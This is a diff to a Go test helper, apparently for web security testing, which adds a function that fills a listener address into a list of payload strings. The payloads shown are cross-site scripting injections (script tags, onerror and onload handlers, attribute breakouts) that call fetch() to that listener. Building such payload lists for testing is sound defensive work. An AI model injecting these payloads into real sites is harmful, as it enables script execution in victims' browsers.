@@ -1,7 +1,16 @@
-package html
+package webtest
 
-// payloads are what somebody writes who wants a page to do more than show a document. U is the address
-// of a listener, HOST its name.
+import "strings"
+
+// Payloads returns what somebody writes who wants a page to do more than show a document, and have it ask a listener for something.
+func Payloads(listener string) (out []string) {
+	for _, p := range payloads {
+		out = append(out, strings.NewReplacer("U/", "http://"+listener+"/", "HOST", listener).Replace(p))
+	}
+	return out
+}
+
+// payloads are those texts; U is the address of the listener, HOST its name.
 var payloads = []string{
 	// Elements that run or load.
 	`<script>fetch("U/a")</script>`, `<img src="U/b" onerror="fetch('U/c')">`, `"><svg onload=fetch('U/d')>`, `' onmouseover='fetch("U/e")' x='`,
